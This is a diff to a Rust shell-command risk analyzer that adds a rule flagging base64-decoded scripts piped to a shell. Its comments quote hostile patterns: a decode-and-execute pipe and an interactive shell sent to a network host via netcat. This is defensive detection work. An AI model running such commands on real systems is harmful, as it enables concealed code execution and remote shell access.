@@ -490,6 +490,21 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
                 alternative: Some("run the script file directly after reading it"),
             });
         }
+        // `echo bHMK | base64 -d | sh`: the decoded script was analysed, but hiding a script in
+        // base64 is itself a reason to look.
+        if name(x) == "base64"
+            && cy.reached_via(toolcap_shell::WrapperKind::HereDoc)
+            && let Some(j) = parts.get_mut(y)
+        {
+            j.findings.push(Finding {
+                rule: "shell.encoded-script",
+                decision: Decision::Ask,
+                risk: Risk::High,
+                caps: Capabilities::EXECUTES_CODE,
+                reason: "decoded data is run as a script",
+                alternative: None,
+            });
+        }
         // `sh -i 2>&1 | nc host 4444`: a shell's output goes to the network.
         if (judge::is_shell(name(x)) || judge::is_interpreter(name(x)))
             && judge::interactive(cx, name(x))
